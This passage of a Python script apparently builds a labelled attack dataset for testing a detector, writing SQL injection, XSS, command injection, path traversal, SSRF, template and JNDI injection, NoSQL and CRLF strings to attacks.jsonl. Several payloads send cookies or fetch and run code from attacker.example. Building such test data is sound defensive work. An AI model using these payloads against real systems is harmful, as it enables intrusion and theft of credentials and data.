       "Crash report CR-2024-0412: ", "Order PO-5530 ", "Avata 2 gimbal "]
T_SQLI = ["' UNION SELECT email,password FROM users-- -", "' AND SLEEP(7)-- -", "' OR '7'='7",
          "'; DROP TABLE parts;--"]
T_XSS = ["<img src=x onerror=alert(document.cookie)>", "<svg onload=fetch('//attacker.example/'+document.cookie)>",
         "<script>alert(document.domain)</script>"]
T_CMD = ["; cat /etc/passwd", "| curl http://attacker.example/x | sh", "$(id)", "&& wget http://198.51.100.66/b -O /tmp/b"]
T_TRAV = ["../../../../etc/passwd", "..\\..\\..\\..\\windows\\win.ini", "../../../../proc/self/environ"]
T_SSRF = ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:9000/internal/reset", "http://10.1.2.3/admin",
          "http://192.168.0.20:8080/manager/html", "http://localhost:5984/_all_dbs", "http://172.31.0.1:10250/pods"]
DIRS = ["logs/FLY077/", "photos/DR-7731/", "exports/2024/", "firmware/mini4/"]
T_CODE = ["{{ cycler.__init__.__globals__.os.popen('id').read() }}", "${jndi:ldap://attacker.example/t}", "<%= `id` %>"]
T_NOSQL = ["[$ne]=x", "[$regex]=.*"]
T_CRLF = ["\r\nSet-Cookie: sid=attacker", "\r\nBcc: harvest@attacker.example"]

def urlenc(s):
    return urllib.parse.quote(s, safe="")

def templated():
    out = []
    for cat, pool, n, enc_every in [("sqli", T_SQLI, 8, 4), ("xss", T_XSS, 8, 4), ("cmdi", T_CMD, 8, 4),
                                    ("traversal", T_TRAV, 6, 3), ("ssrf", T_SSRF, 6, 3), ("code", T_CODE, 6, 3),
                                    ("nosqli", T_NOSQL, 2, 0), ("crlf", T_CRLF, 3, 0)]:
        seen = set()
        i = 0
        while i < n:
            pre = rng.choice(PFX)
            pay = rng.choice(pool)
            if cat == "nosqli":
                v, cls = "serial" + pay, "tmpl-query-param"
            elif cat == "traversal":
                v, cls = rng.choice(DIRS) + pay, "tmpl-dir-prefixed"
            elif cat == "ssrf":
                v, cls = pay, "tmpl-plain"
            else:
                v, cls = pre + pay, "tmpl-prefixed"
            if enc_every and i % enc_every == enc_every - 1:
                v, cls = urlenc(v), cls + "+urlencode"
            if v in seen:
                continue
            seen.add(v)
            out.append((cat, cls, v))
            i += 1
    return out

ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]

def main():
    allv = A + templated()
    rows = []
    seen = set()
    for cat in ORDER:
        for c, cls, v in allv:
            if c == cat and v not in seen:
                seen.add(v)
                rows.append((c, cls, v))
    path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for i, (c, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "%s-%05d" % (PREFIX, i), "category": c, "class": cls,
                                "label": "attack", "value": v}, ensure_ascii=False) + "\n")

if __name__ == "__main__":
    main()
